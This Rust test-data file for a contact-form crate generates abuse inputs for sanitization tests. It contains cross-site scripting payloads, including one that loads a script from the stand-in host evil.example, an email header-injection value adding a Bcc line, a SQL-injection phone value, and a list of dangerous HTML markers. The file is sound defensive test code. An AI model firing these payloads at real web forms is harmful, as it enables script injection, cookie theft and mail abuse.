// SPDX-FileCopyrightText: 2025 Hyperpolymath
// SPDX-License-Identifier: Apache-2.0

//! Test data generators for abuse simulation.

#![allow(dead_code)]

use contact_gate::model::{ProjectType, SubmissionRequest};

/// A well-formed submission, varied by index.
pub fn valid_request(i: usize) -> SubmissionRequest {
    let project_type = ProjectType::ALL[i % ProjectType::ALL.len()];
    SubmissionRequest::new(
        format!("Visitor {i}"),
        format!("visitor{i}@example.com"),
        project_type,
        format!("Hello, I would like to talk about project number {i}."),
    )
}

/// Script injection payloads seen against contact forms.
pub fn generate_xss_payloads() -> Vec<&'static str> {
    vec![
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<script type=\"text/javascript\">\ndocument.cookie\n</script >",
        "<scr<script>ipt>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "JaVaScRiPt:alert(document.domain)",
        "javajavascript:script:alert(1)",
        "\" onmouseover=\"alert(1)",
        "' onfocus='alert(1)' autofocus='",
        "<body onload=alert(1)>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "onclick = alert(1)",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
    ]
}

/// Markers that must never survive sanitization.
pub fn dangerous_markers() -> Vec<&'static str> {
    vec![
        "<script",
        "</script",
        "javascript:",
        "onerror=",
        "onload=",
        "onmouseover=",
        "onfocus=",
        "onclick=",
        "<img",
        "<svg",
        "<iframe",
    ]
}

/// Strings that are not email addresses.
pub fn generate_invalid_emails() -> Vec<&'static str> {
    vec![
        "not-an-email",
        "ann@",
        "@example.com",
        "ann@example",
        "ann@example.c",
        "ann example@example.com",
        "ann@exa mple.com",
        "ann@@example.com",
        "<ann@example.com>",
        "ann@example.com\nBcc: victim@example.com",
        "ann@example.com,bob@example.com",
        "ann@example.123",
    ]
}

/// Addresses that must pass the format check.
pub fn generate_valid_emails() -> Vec<&'static str> {
    vec![
        "ann@example.com",
        "first.last@example.co.id",
        "user+tag@sub.example.org",
        "user_name%dept@example.io",
        "A.B-C@EXAMPLE.COM",
    ]
}

/// Phone numbers that must pass the loose international format.
pub fn generate_valid_phones() -> Vec<&'static str> {
    vec![
        "+62 812-3456-7890",
        "(021) 555-0100",
        "0812345678",
        "+1 (555) 010-0000",
    ]
}

/// Phone values that must be rejected.
pub fn generate_invalid_phones() -> Vec<&'static str> {
    vec![
        "call me",
        "12345",
        "+62 812 3456 7890 1234 5678",
        "+62-812-ABC",
        "0812;DROP TABLE",
        "++62 812 3456",
    ]
}

/// Strings of exactly `len` characters.
pub fn message_of_len(len: usize) -> String {
    "é".repeat(len)
}
